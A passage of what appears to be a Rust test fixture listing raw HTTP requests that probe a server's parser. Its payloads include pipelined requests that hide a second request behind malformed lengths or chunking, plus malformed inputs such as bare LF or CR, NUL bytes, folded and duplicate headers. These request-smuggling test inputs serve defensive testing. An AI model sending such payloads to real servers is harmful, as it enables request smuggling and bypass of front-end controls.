    (
        "response before the body: Expect",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nExpect: 100-continue\r\nContent-Length: LEN\r\n\r\nCUTHIDDEN",
    ),
];

/// Names and texts of requests that are followed by another request. A server may respond to both requests.
pub(crate) const PIPELINED: &[(&str, &str)] = &[
    (
        "after a length with an underscore",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent_Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "after 401",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 2\r\n\r\n{}HIDDEN",
    ),
    (
        "after 404",
        "POST /nothing HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 2\r\n\r\n{}HIDDEN",
    ),
    (
        "after 405",
        "PUT /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 2\r\n\r\n{}HIDDEN",
    ),
    (
        "after 422",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}HIDDEN",
    ),
    (
        "after 401 and a pause",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 2\r\n\r\n{}CUTHIDDEN",
    ),
    (
        "after 200",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\n\r\nHIDDEN",
    ),
    (
        "after chunks",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\nHIDDEN",
    ),
];

/// Names and texts of requests with an oddity that other servers may interpret differently. These requests hide no
/// other request.
pub(crate) const ODD: &[(&str, &str)] = &[
    (
        "bare LF",
        "GET /v1/echo HTTP/1.1\nHost: q\nX-API-Key: KEY\n\n",
    ),
    (
        "one bare LF",
        "GET /v1/echo HTTP/1.1\r\nHost: q\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "bare LF at the end",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\n",
    ),
    (
        "bare LF after the request line",
        "GET /v1/echo HTTP/1.1\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "bare CR",
        "GET /v1/echo HTTP/1.1\r\nHost: q\rX-API-Key: KEY\r\n\r\n",
    ),
    (
        "NUL in a value",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX: \0\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "NUL in a name",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX\0: y\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "NUL in the target",
        "GET /v1/echo\0 HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "space before a colon",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key : KEY\r\n\r\n",
    ),
    (
        "folded line",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key:\r\n KEY\r\n\r\n",
    ),
    (
        "folded first line",
        "GET /v1/echo HTTP/1.1\r\n Host: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "line without a colon",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "field without a name",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\n: x\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "two hosts",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nHost: p\r\nX-API-Key: KEY\r\n\r\n",
    ),
    ("no host", "GET /v1/echo HTTP/1.1\r\nX-API-Key: KEY\r\n\r\n"),
    (
        "host with a user",
        "GET /v1/echo HTTP/1.1\r\nHost: p@q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "two keys",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "not ASCII",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX: \u{e9}\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "tab",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key:\tKEY\r\n\r\n",
    ),
    (
        "empty line first",
        "\r\nGET /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "two spaces",
        "GET  /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "tab in the request line",
        "GET\t/v1/echo\tHTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "no version",
        "GET /v1/echo\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "two versions",
        "GET /v1/echo HTTP/1.1 HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "absolute target",
        "GET http://q/v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "absolute target with another host",
        "GET http://p/v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "lowercase method",
        "get /v1/echo HTTP/1.1\r\nHost: q\r\nX-API-Key: KEY\r\n\r\n",
    ),
    (
        "TE after a tab",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "chunk length with a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nTransfer-Encoding: chunked\r\n\r\n0\n\n",
    ),
    (
        "close",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nConnection: close\r\nX-API-Key: KEY\r\n\r\n",
    ),
];
